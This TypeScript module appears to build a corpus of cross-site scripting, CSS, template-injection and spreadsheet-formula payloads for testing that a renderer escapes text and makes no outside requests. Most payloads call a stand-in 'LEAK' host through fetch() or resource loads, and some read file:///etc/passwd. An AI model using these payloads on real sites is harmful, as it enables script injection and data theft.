import { corpusText } from './attacks.js';

/** Texts that become script, style, a request or a command where they are not escaped for their place. */
const OWN: readonly string[] = [
  '<script>fetch("LEAK/script")</script>', '<img src="LEAK/img">', '<img src=x onerror=fetch("LEAK/onerror")>', '<svg onload=fetch("LEAK/svg")>',
  '<svg><script href="LEAK/svg-script"/></svg>', '<link rel=stylesheet href="LEAK/css">', '<style>@import url("LEAK/import")</style>',
  '<style>*{background:url("LEAK/background")}</style>', '<iframe src="LEAK/frame"></iframe>', '<iframe src="file:///etc/passwd"></iframe>',
  '<iframe srcdoc="<script>fetch(`LEAK/srcdoc`)</script>"></iframe>', '<object data="LEAK/object"></object>', '<embed src="LEAK/embed">',
  '<video src="LEAK/video" poster="LEAK/poster"></video>', '<audio src="LEAK/audio" autoplay></audio>', '<input type=image src="LEAK/input">',
  '<meta http-equiv=refresh content="0;url=LEAK/refresh">', '<base href="LEAK/">', '<form action="LEAK/form"><button autofocus></form>',
  '<body background="LEAK/body">', '<table background="LEAK/table">', '<link rel=preload as=image href="LEAK/preload">',
  '<link rel=prefetch href="LEAK/prefetch">', '<link rel=dns-prefetch href="LEAK">', '<a href="javascript:fetch(1)">x</a>', '<a ping="LEAK/ping" href="#">x</a>',
  '"><script>1</script>', "'><script>1</script>", '</title><script>1</script>', '</style><script>1</script>', '</textarea><script>1</script>',
  '--><script>1</script><!--', ']]><script>1</script>', '" onmouseover="x()" x="', "' onfocus=x() autofocus '", '` onload=x() `', 'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>1</script>', 'vbscript:x', 'file:///etc/passwd', '//LEAK-HOST/x',
  '{{ "x" | upcase }}', '{% include "page" %}', '{% raw %}', '{{ constructor }}', '{{ resume.__proto__ }}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{7*7}}',
  "'; } body { background: url(LEAK/style) } .x { content: '", '\\3c script\\3e', '&lt;script&gt;', '&#60;script&#62;', '\u003cscript\u003e', '\uff1cscript\uff1e',
  '<scr\u0000ipt>', '<\u200bscript>', '\u202escript', '=HYPERLINK("LEAK/csv")', '<math><maction actiontype="statusline" xlink:href="javascript:1">x',
  '<template shadowrootmode=open><img src="LEAK/shadow"></template>', '<noscript><img src="LEAK/noscript"></noscript>', '<image href="LEAK/image">',
  '<script type=speculationrules>{"prefetch":[{"urls":["LEAK/speculation"]}]}</script>', '<dialog open onclose=x()>', '<details ontoggle=x() open>',
]; // prettier-ignore

/** Own texts and, where `SECURITY_CORPUS` names them, those of the public lists; `LEAK` stands for a server that must not be asked. */
export function markupAttacks(leak: string): string[] {
  const listed = (corpusText('xss_payloads.txt') ?? '').split('\n').filter((line) => line.trim() !== '');
  return [...OWN, ...listed, ...leakingElements(leak)].map((text) =>
    text.replaceAll('LEAK-HOST', new URL(leak).host).replaceAll('LEAK', leak),
  );
}

/** The public page of elements that make a request, one element after the other; empty without the corpus. */
function leakingElements(leak: string): string[] {
  return leakPage(leak)
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line.includes(leak));
}

/** That page as a whole, with all its addresses leading to `leak`; empty without the corpus. */
export function leakPage(leak: string): string {
  return (corpusText('http_leaks.html') ?? '')
    .replaceAll(/https?:\/\/leaking\.via/g, leak)
    .replaceAll('//leaking.via', leak);
}

/** Each own attack as a page that escapes nothing. */
export function unescapedPages(leak: string): string[] {
  return OWN.map((text) => {
    const body = text.replaceAll('LEAK-HOST', new URL(leak).host).replaceAll('LEAK', leak);
    return `<!doctype html><html><head><title>Offer</title></head><body><div>${body}</div></body></html>`;
  });
}
